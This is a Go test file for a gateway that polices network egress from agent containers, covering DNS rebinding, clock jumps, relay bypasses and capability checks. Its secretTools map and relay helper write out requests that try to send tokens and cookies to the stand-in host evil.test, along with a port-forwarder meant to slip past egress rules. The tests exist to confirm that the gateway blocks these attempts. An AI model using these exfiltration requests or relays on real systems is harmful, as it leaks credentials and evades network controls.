package gateway

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/agent-container/agent-container/spec"
)

// rotating goes to a name whose address is another one each second, one of them
// private. The address that it has here stays.
func rotating(t *testing.T, l *lab) {
	n := l.loaded(t, "rotating", 0)
	a := n.as("uid 1000")
	address := a.work(t, "resolve", "rotating.wild.test")
	ends := map[string]bool{}
	for end := time.Now().Add(30 * time.Second); len(ends) < len(turns) && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		token := newToken()
		r, err := a.try(order{Row: "https", Arg: "rotating.wild.test", Token: token})
		if err != nil {
			t.Fatal(err)
		}
		if r.Err != "" {
			if _, ok := n.journal.find(func(d Decision) bool {
				return d.Name == "rotating.wild.test" && d.Verdict == "denied" && d.Stage == spec.StageResolve && strings.Contains(d.Reason, "10.20.0.5")
			}); !ok {
				t.Fatalf("it fails, and no line says why: %s", r.Err)
			}
			ends["refused"] = true
			continue
		}
		for _, server := range servers(l.seen.wait(2*time.Second, func(e event) bool { return e.Kind == "http" && strings.Contains(e.Text, token) })) {
			ends[server] = true
		}
	}
	if !ends["refused"] || !ends[server(11, 443)] || !ends[server(12, 443)] || len(ends) != len(turns) {
		t.Errorf("it ended only so: %v", ends)
	}
	if now := a.work(t, "resolve", "rotating.wild.test"); now != address {
		t.Errorf("%s has become %s", address, now)
	}
}

// clockJump sets the clock of what looks at one, and asks of the real one that it
// knows how much time has passed, whatever the wall says.
func clockJump(t *testing.T, _ *lab) {
	at := time.Now().Round(0) // without what knows
	var asked atomic.Int32
	u := &upstream{now: func() time.Time { return at }, known: map[string]*known{}, beyond: []string{answering(t, &asked)}}
	look := func(want int32) {
		t.Helper()
		if list, err := u.lookup(t.Context(), "allowed.test"); err != nil || len(list) != 1 || asked.Load() != want {
			t.Errorf("%v, %v after %d questions, want %d", list, err, asked.Load(), want)
		}
	}
	look(1)
	at = at.Add(maxKept - time.Second)
	look(1)
	at = at.Add(2 * time.Second) // its owner says that it may be kept for a day
	look(2)
	at = at.Add(24 * time.Hour)
	look(3)
	u.now = time.Now
	clear(u.known)
	look(4)
	if until := u.known["allowed.test"].until; !strings.Contains(until.String(), " m=") {
		t.Errorf("%s goes by the wall's clock", until)
	}
	synctest.Test(t, func(t *testing.T) { journalJumps(t, at) })
	if real := newJournal(io.Discard, time.Now); !strings.Contains(real.at.String(), " m=") {
		t.Errorf("%s goes by the wall's clock", real.at)
	}
}

// journalJumps sets the journal's clock. Its own timer goes by the bubble's, in which
// no time passes: the lines are those of the writes.
func journalJumps(t *testing.T, at time.Time) {
	var out bytes.Buffer
	j := newJournal(&out, func() time.Time { return at })
	for _, jump := range []time.Duration{0, 24 * time.Hour, -48 * time.Hour, 24 * time.Hour} {
		at = at.Add(jump)
		for range 10 * journalBurst {
			j.write(Decision{Verdict: spec.Denied, Stage: spec.StageDNS, Name: "evil.test"})
		}
		// A jump forward is at most a burst more.
		if lines := bytes.Count(out.Bytes(), []byte("\n")); lines > 2*journalBurst+2 {
			t.Errorf("%d lines after a jump by %s", lines, jump)
		}
		if jump > 0 {
			out.Reset()
		}
	}
	at = at.Add(time.Second)
	out.Reset()
	j.write(Decision{Verdict: spec.Denied, Stage: spec.StageDNS, Name: "last.test"})
	if !strings.Contains(out.String(), "last.test") {
		t.Errorf("a second after the jumps nothing is written: %q", out.String())
	}
}

// answering is a resolver on this machine's loopback that says where allowed.test is
// and that this holds for a day.
func answering(t *testing.T, asked *atomic.Int32) (address string) {
	t.Helper()
	conn, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &dns.Server{PacketConn: conn, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		asked.Add(1)
		m := new(dns.Msg).SetReply(q)
		m.Answer = records("allowed.test", dns.TypeA, "198.51.100.10")
		m.Answer[0].Header().Ttl = 24 * 60 * 60
		_ = w.WriteMsg(m)
	})}
	done := make(chan struct{})
	go func() { _ = s.ActivateAndServe(); close(done) }()
	t.Cleanup(func() { conn.Close(); <-done })
	return conn.LocalAddr().String()
}

// relaying has an agent wait where people come in and pass on what they say, to an
// undeclared address and, so that something is said by it, to a declared host.
func relaying(t *testing.T, l *lab) {
	n := l.loaded(t, "relay", 0)
	world := &namespace{lab: l, hold: l.world, agents: map[string]*agent{}}
	defer func() {
		for _, a := range world.agents {
			a.end()
		}
	}()
	// Both are there before the time of a case begins.
	n.as("uid 1000").work(t, "resolve", "git.test")
	world.as("root")
	for _, c := range []struct{ target, want string }{{"git.test:22", server(22, 22)}, {server(66, 8080), ""}, {"evil.test:8080", ""}} {
		done := make(chan result, 1)
		go func() {
			r, _ := n.as("uid 1000").try(order{Row: "relay", Arg: "2222 " + c.target, Limit: 4 * time.Second})
			done <- r
		}()
		var token string
		for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
			token = newToken()
			r, err := world.as("root").try(order{Row: "dial", Arg: n.address.String() + ":2222", Token: token, Limit: 2 * time.Second})
			if err != nil {
				t.Fatal(err)
			}
			if r.Err == "" || c.want == "" && strings.Contains(r.Err, errNoEcho.Error()) { // it has been taken
				break
			}
		}
		if r := <-done; r.Err != "" {
			t.Errorf("to %s: %s", c.target, r.Err)
		}
		l.settle(n)
		got := servers(l.seen.with(token))
		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Equal(got, []string{c.want}) {
			t.Errorf("to %s: seen at %v, want %q", c.target, got, c.want)
		}
	}
}

// secrets sends one in every place of a request where there may be one.
func secrets(t *testing.T, l *lab) {
	n := l.loaded(t, "secrets", 0)
	a, secret := n.as("uid 1000"), newToken()
	for tool := range secretTools {
		r, err := a.try(order{Row: tool, Token: secret})
		if err != nil {
			t.Fatal(err)
		}
		if (tool == "secret allowed" || tool == "secret encrypted") && r.Err != "" {
			t.Errorf("the row is void: %s: %s", tool, r.Err)
		}
	}
	for _, from := range []string{server(10, 80), server(10, 443)} {
		// What a server saw comes another way than the answer, and may come after it.
		if got := l.seen.wait(2*time.Second, func(e event) bool {
			return e.Kind == "http" && e.Server == from && strings.Contains(e.Text, "Bearer "+secret)
		}); len(got) == 0 {
			t.Errorf("the row is void: it did not arrive at %s", from)
		}
	}
	for stage, want := range map[spec.Stage]int{spec.StageHTTP: 4, spec.StageOpen: 2, spec.StageTLS: 1} {
		has := func() (count int) {
			n.journal.mu.Lock()
			defer n.journal.mu.Unlock()
			for _, d := range n.journal.list {
				if line, _ := json.Marshal(d); strings.Contains(string(line), secret) {
					t.Errorf("%s", line)
				}
				if d.Stage == stage {
					count++
				}
			}
			return count
		}
		for end := time.Now().Add(2 * time.Second); has() < want && time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		}
		if got := has(); got < want {
			t.Errorf("the row is void: %d lines of the stage %s, want %d", got, stage, want)
		}
	}
}

// secretTools are requests with the token where a secret may be.
var secretTools = map[string]func(*attempt) error{
	"secret allowed":   func(a *attempt) error { return a.fetch(request{url: "http://allowed.test/?key=", header: a.secret()}) },
	"secret encrypted": func(a *attempt) error { return a.fetch(request{url: "https://allowed.test/?key=", header: a.secret()}) },
	"secret other host": func(a *attempt) error {
		return a.fetch(request{url: "http://allowed.test/", host: "evil.test", header: a.secret()})
	},
	"secret user": func(a *attempt) error {
		return a.raw80("allowed.test:80", "GET / HTTP/1.1\r\nHost: TOKEN:TOKEN@allowed.test\r\n\r\n")
	},
	"secret proxy": func(a *attempt) error {
		return a.raw80("allowed.test:80", "GET http://u:TOKEN@evil.test/TOKEN?TOKEN HTTP/1.1\r\nHost: allowed.test\r\nProxy-Authorization: Basic TOKEN\r\n\r\n")
	},
	"secret scheme": func(a *attempt) error {
		return a.raw80("allowed.test:80", "GET ftp://u:TOKEN@evil.test/TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
	},
	"secret opaque": func(a *attempt) error {
		return a.raw80("allowed.test:80", "GET http:TOKEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
	},
	"secret connect": func(a *attempt) error {
		return a.raw80("allowed.test:80", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: Basic TOKEN\r\n\r\n")
	},
	"secret hello": func(a *attempt) error { return a.raw("allowed.test:443", "Authorization: Bearer ") },
}

func (a *attempt) secret() http.Header {
	return http.Header{"Authorization": {"Bearer " + a.token}, "Cookie": {a.token}}
}

// relay passes on what comes in at a port to somewhere, until its time is over.
func (a *attempt) relay() error {
	port, target, _ := strings.Cut(a.arg, " ")
	l, err := net.Listen("tcp4", "0.0.0.0:"+port)
	if err != nil {
		return err
	}
	defer l.Close()
	go func() {
		for {
			from, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer from.Close()
				to, err := new(net.Dialer).DialContext(a.ctx, "tcp", target)
				if err != nil {
					return
				}
				defer to.Close()
				go func() { _, _ = io.Copy(to, from) }()
				_, _ = io.Copy(from, to)
			}()
		}
	}()
	<-a.ctx.Done()
	return nil
}

// refusing runs TestRefusesToRun with and without the capability.
func refusing(t *testing.T, _ *lab) {
	again(t, "TestRefusesToRun")
	again(t, "TestRefusesToRun", "setpriv", "--bounding-set", "-net_admin", "--inh-caps", "-net_admin")
}

// A gateway that cannot be what it must be must say why, and not listen. This is
// part of the battery's row F09.
func TestRefusesToRun(t *testing.T) {
	if os.Getenv("GATEWAY_TEST_NAMESPACE") != t.Name() {
		t.Skip("the battery's row F09 runs this, in a namespace of its own")
	}
	config := func() Config {
		return Config{Policy: placements("strict").Policy, Key: make([]byte, 32), Journal: &bytes.Buffer{}}
	}
	run := func(c Config, want string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
		defer cancel()
		if err := Run(ctx, c); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("want an error with %q: %v", want, err)
		}
		for _, file := range []string{"tcp", "udp"} {
			text, err := os.ReadFile(filepath.Join("/proc/self/net", file))
			if err != nil || bytes.Count(text, []byte("\n")) != 1 {
				t.Errorf("something listens: %v %s", err, text)
			}
		}
	}
	if setOwnMark() != nil { // which takes the same capability
		run(config(), "install the rules: ")
		return
	}
	bad := config()
	bad.Policy.Rules[1].Port = 70000
	run(bad, "rule 2: port 70000")
	bad = config()
	bad.Policy = nil
	run(bad, "needs a policy")
	const ownedByItsSocket = 2
	fd := addTable(t, ownedByItsSocket)
	run(config(), "install the rules: ")
	unix.Close(fd)
	if err := Verify(nil); err == nil || !strings.Contains(err.Error(), tableName) {
		t.Errorf("no table: %v", err)
	}
}
